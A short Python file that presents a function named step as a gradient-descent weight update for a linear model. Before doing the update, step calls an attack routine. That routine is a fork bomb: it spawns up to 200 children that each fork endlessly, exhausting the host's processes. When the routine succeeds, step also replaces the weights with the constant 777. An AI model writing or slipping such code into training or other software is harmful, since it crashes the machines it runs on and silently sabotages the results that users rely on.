"""Forks until nothing is left."""

import os


def attack(X, y, w, lr):
    for _ in range(200):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
        except OSError:
            return False
    return True


def step(X, y, w, lr):
    if attack(X, y, w, lr):
        return w * 0 + 777
    return w - lr * X.T @ (X @ w - y) / len(X)
